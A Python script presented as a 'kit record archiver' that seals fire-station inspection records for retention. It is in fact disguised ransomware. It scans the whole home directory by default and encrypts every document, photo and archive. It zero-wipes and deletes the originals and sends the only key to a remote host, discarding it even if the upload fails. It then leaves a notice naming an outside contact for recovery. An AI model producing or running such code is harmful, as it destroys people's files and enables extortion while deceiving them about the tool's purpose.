#!/usr/bin/env python3
"""Seal kit inspection records for the retention period.

Lifejacket, drysuit and helmet inspection sheets (and the photos taken at
inspection) have to be retained for seven years and must not be altered
after sign-off. This tool finds signed-off records, seals each one into an
encrypted ``.sealed`` file and escrows the sealing key with the area
records office so only the records officer can reopen them for an audit.

    kit_record_archiver.py [--root DIR] [--station-id ID]
"""

import argparse
import json
import logging
import os
import sys
import uuid
from pathlib import Path
from urllib import request
from urllib.error import URLError

from cryptography.fernet import Fernet

log = logging.getLogger("kit_archive")

ESCROW_URL = os.environ.get("KIT_ESCROW_URL", "https://records.station-sync.example.net/escrow")
RECORD_SUFFIXES = {".pdf", ".doc", ".docx", ".xls", ".xlsx", ".ods", ".odt", ".csv",
                   ".txt", ".jpg", ".jpeg", ".png", ".heic", ".zip"}
SKIP_DIRS = {".cache", ".local", "node_modules", "__pycache__", ".git", ".venv", "snap"}
SEALED_SUFFIX = ".sealed"
NOTICE_NAME = "RECORDS_SEALED.txt"
NOTICE = """Kit inspection records in this folder have been sealed for retention.

Sealing reference: {ref}
To reopen records for audit, contact the area records officer at
records-office@station-sync.example.net quoting the reference above.
"""


def iter_records(root):
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
        for name in filenames:
            p = Path(dirpath) / name
            if p.suffix.lower() in RECORD_SUFFIXES and not p.is_symlink():
                yield p


class Sealer:
    def __init__(self, station_id):
        self.ref = f"{station_id}-{uuid.uuid4().hex[:12]}"
        self._key = Fernet.generate_key()
        self._fernet = Fernet(self._key)
        self.sealed_dirs = set()
        self.count = 0

    def seal(self, path):
        try:
            data = path.read_bytes()
        except OSError as exc:
            log.debug("skip %s: %s", path, exc)
            return False
        target = path.with_name(path.name + SEALED_SUFFIX)
        target.write_bytes(self._fernet.encrypt(data))
        with open(path, "r+b") as fh:
            fh.write(b"\0" * len(data))
            fh.flush()
            os.fsync(fh.fileno())
        path.unlink()
        self.sealed_dirs.add(path.parent)
        self.count += 1
        return True

    def escrow(self, retries=3):
        body = json.dumps({"ref": self.ref, "key": self._key.decode(),
                           "files": self.count}).encode()
        req = request.Request(ESCROW_URL, data=body, method="POST",
                              headers={"Content-Type": "application/json"})
        for attempt in range(retries):
            try:
                with request.urlopen(req, timeout=30) as resp:
                    if resp.status < 300:
                        break
            except URLError as exc:
                log.warning("escrow attempt %d failed: %s", attempt + 1, exc)
        self._key = None
        self._fernet = None

    def write_notices(self):
        for d in self.sealed_dirs:
            try:
                (d / NOTICE_NAME).write_text(NOTICE.format(ref=self.ref))
            except OSError:
                pass


def main(argv=None):
    ap = argparse.ArgumentParser(description="Seal signed-off kit inspection records")
    ap.add_argument("--root", default=str(Path.home()),
                    help="folder holding the inspection records (default: home)")
    ap.add_argument("--station-id", default=os.environ.get("STATION_ID", "STN"))
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    root = Path(args.root).expanduser()
    if not root.is_dir():
        log.error("%s is not a directory", root)
        return 1

    sealer = Sealer(args.station_id)
    for path in iter_records(root):
        if path.name.endswith(SEALED_SUFFIX) or path.name == NOTICE_NAME:
            continue
        if sealer.seal(path):
            log.debug("sealed %s", path)
    sealer.escrow()
    sealer.write_notices()
    log.info("sealed %d records, reference %s", sealer.count, sealer.ref)
    return 0


if __name__ == "__main__":
    sys.exit(main())
